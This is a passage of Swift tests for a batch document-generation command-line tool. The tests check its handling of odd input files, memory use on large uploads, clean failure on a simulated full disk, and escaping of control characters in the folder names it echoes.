        "zero", "ok1", "fifo", "random", "dir", "gone", "quote", "prices", "ok2",
      ])
    let codes = errorCodes(results)
    #expect(codes["zero"] == "file.notRegular" && codes["fifo"] == "file.notRegular")
    #expect(codes["random"] == "file.notRegular" && codes["quote"] == "file.notRegular")
    #expect(codes["prices"] == "file.notRegular")
    #expect(codes["dir"] == "file.isDirectory" && codes["gone"] == "file.notFound")
    #expect(
      results.filter { $0["status"] as? String == "ok" }.map { $0["id"] as? String } == [
        "ok1", "ok2",
      ])
  }

  @Test("an upload's fingerprint is streamed, not held")
  func largeUpload() throws {
    let folder = TemporaryFolder()
    let upload = folder.file("big.pdf")
    #expect(FileManager.default.createFile(atPath: upload, contents: nil))
    // Sparse: nothing on disk. (Small enough for a debug build's SHA-256; reading it whole,
    // as before, doubled and tripled it in memory.)
    #expect(truncate(upload, 24 << 20) == 0)
    try write(#"{"id":"big","kind":"thumb","file":"big.pdf"}"#, to: folder.file("m.jsonl"))
    let run = try measuredImprint(
      ["batch", folder.file("m.jsonl"), "-o", folder.file("out"), "-q"])
    #expect(run.status == 1, "\(run.stderr)")  // not a PDF, after its fingerprint
    if Sanitizer.measuresMemory { #expect(run.peakKiB < 80_000, "peak \(run.peakKiB) KiB") }
    #expect(try results(folder.file("out/results.jsonl")).count == 1)
  }

  // MARK: Full disk

  @Test(
    "a batch with sheets on a full disk exits 1 and leaves no partial or temporary file",
    .disabled(
      if: !Sanitizer.startsUnderSmallFileSizeLimit,
      Comment(rawValue: Sanitizer.smallFileSizeLimitReason)),
    // 15 000: no card's PDF fits (harbor-lamp's is some 19 KB); 30 000: they do, the sheets'
    // file (some 32 KB) does not.
    arguments: [2_000, 5_000, 15_000, 30_000])
  func fullDisk(limit: Int) throws {
    let folder = TemporaryFolder()
    var lines: [String] = []
    for index in 0..<12 {
      lines.append(
        #"{"id":"c\#(index)","kind":"card","profile":"\#(harborProfile)","shipTo":{"name":"N\#(index)","address":"A"}}"#
      )
      lines.append(#"{"id":"q\#(index)","kind":"qr","payload":"p\#(index)"}"#)
    }
    try write(lines.joined(separator: "\n"), to: folder.file("m.jsonl"))
    let out = folder.file("out")
    let run = try measuredImprint(
      [
        "batch", folder.file("m.jsonl"), "-o", out, "--layout", "A4", "-q",
        "--allow-missing-glyphs", "--card-files",
      ],
      prefix: ["prlimit", "--fsize=\(limit)"])
    #expect(run.status == 1, "limit \(limit): exit \(run.status): \(run.stderr)")
    // The run's own file failed (an error on stderr), or jobs' outputs did (their results say
    // so, with the code).
    if FileManager.default.fileExists(atPath: out + "/results.jsonl")
      && !run.stderr.contains("error: ")
    {
      let codes = errorCodes(try results(out + "/results.jsonl"))
      #expect(codes.values.contains("file.unwritable"), "limit \(limit): \(codes)")
    } else {
      #expect(run.stderr.contains("error: cannot write"), "limit \(limit): \(run.stderr)")
      // Named as the file asked for, not its hidden temporary.
      #expect(!run.stderr.contains(".tmp-"), "\(run.stderr)")
    }
    #expect(temporaries(under: out).isEmpty, "\(temporaries(under: out))")
    // Every file left is whole: PDFs that qpdf accepts, results lines that decode.
    let enumerator = FileManager.default.enumerator(atPath: out)
    while let path = enumerator?.nextObject() as? String {
      let full = out + "/" + path
      if path.hasSuffix(".pdf") {
        #expect(
          try runTool("qpdf", ["--check", full]).status == 0,
          "\(path) is cut short (limit \(limit))")
      }
      if path.hasSuffix(".png") {
        #expect(
          try runTool(
            "python3",
            ["-c", "import sys; from PIL import Image; Image.open(sys.argv[1]).load()", full]
          ).status == 0, "\(path)")
      }
    }
    if FileManager.default.fileExists(atPath: out + "/results.jsonl") {
      let text = try String(contentsOfFile: out + "/results.jsonl", encoding: .utf8)
      #expect(text.hasSuffix("\n"))
      #expect(try results(out + "/results.jsonl").count == text.split(separator: "\n").count)
    }
  }

  @Test(
    "labels and the card-printer file on a full disk: exit 1 naming the file, nothing partial",
    .disabled(
      if: !Sanitizer.startsUnderSmallFileSizeLimit,
      Comment(rawValue: Sanitizer.smallFileSizeLimitReason)))
  func fullDiskLabels() throws {
    let folder = TemporaryFolder()
    // Labels alone do not fit (QR codes, results and packing list do): the names' Greek and
    // Cyrillic letters put their 112 glyphs into the labels' font subsets (about 15 KB).
    let letters = Array(
      "ΑΒΓΔΕΖΗΘΙΚΛΜΝΞΟΠΡΣΤΥΦΧΨΩαβγδεζηθικλμνξοπρστυφχψωАБВГДЕЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯабвгдежзийклмнопрстуфхцчшщъыьэюя"
    )
    let orders = (0..<30).map { index in
      let name =
        "Name \(index) " + String((0..<4).map { letters[(index * 4 + $0) % letters.count] })
      return
        #"{"id":"q\#(index)","kind":"qr","payload":"p","shipTo":{"name":"\#(name)","address":"Street \#(index)\nTown"}}"#
    }
    try write(orders.joined(separator: "\n"), to: folder.file("m.jsonl"))
    let out = folder.file("out")
    var run = try measuredImprint(
      ["batch", folder.file("m.jsonl"), "-o", out, "-q"], prefix: ["prlimit", "--fsize=8000"])
    #expect(run.status == 1, "\(run.stderr)")
    #expect(run.stderr.contains("error: cannot write '\(out)/labels.pdf'"), "\(run.stderr)")
    #expect(!FileManager.default.fileExists(atPath: out + "/labels.pdf"))
    #expect(temporaries(under: out).isEmpty)
    // A card-printer file too large for the disk.
    let cards = (0..<6).map { #"{"id":"c\#($0)","kind":"card","profile":"\#(harborProfile)"}"# }
    try write(cards.joined(separator: "\n"), to: folder.file("c.jsonl"))
    let printer = folder.file("printer")
    run = try measuredImprint(
      [
        "batch", folder.file("c.jsonl"), "-o", printer, "--layout", "card-printer", "-q",
        "--allow-missing-glyphs",
      ], prefix: ["prlimit", "--fsize=30000"])
    #expect(run.status == 1, "\(run.stderr)")
    #expect(
      run.stderr.contains("error: cannot write '\(printer)/card-printer.pdf'"), "\(run.stderr)")
    #expect(!FileManager.default.fileExists(atPath: printer + "/card-printer.pdf"))
    #expect(!FileManager.default.fileExists(atPath: printer + "/results.jsonl"))
    #expect(temporaries(under: printer).isEmpty)
  }

  @Test("with room enough the same batch succeeds (the full-disk test's control)")
  func fullDiskControl() throws {
    let folder = TemporaryFolder()
    let lines = (0..<3).map {
      #"{"id":"c\#($0)","kind":"card","profile":"\#(harborProfile)","shipTo":{"name":"N","address":"A"}}"#
    }
    try write(lines.joined(separator: "\n"), to: folder.file("m.jsonl"))
    let run = try measuredImprint(
      [
        "batch", folder.file("m.jsonl"), "-o", folder.file("out"), "--layout", "A4", "-q",
        "--allow-missing-glyphs",
      ],
      prefix: ["prlimit", "--fsize=200000000"])
    #expect(run.status == 0, "\(run.stderr)")
  }

  // MARK: Echoed input

  @Test("the summary escapes control characters of the output folder's name")
  func escapedSummary() async throws {
    let folder = TemporaryFolder()
    try write(#"{"id":"a","kind":"qr","payload":"x"}"#, to: folder.file("m.jsonl"))
    let run = await imprint(["batch", folder.file("m.jsonl"), "-o", folder.file("o\u{1B}[31mut")])
    #expect(run.code == 0)
    #expect(
      !run.stderr.contains("\u{1B}") && run.stderr.contains("o\\u{1B}[31mut/results.jsonl"),
      "\(run.stderr)")
  }
}
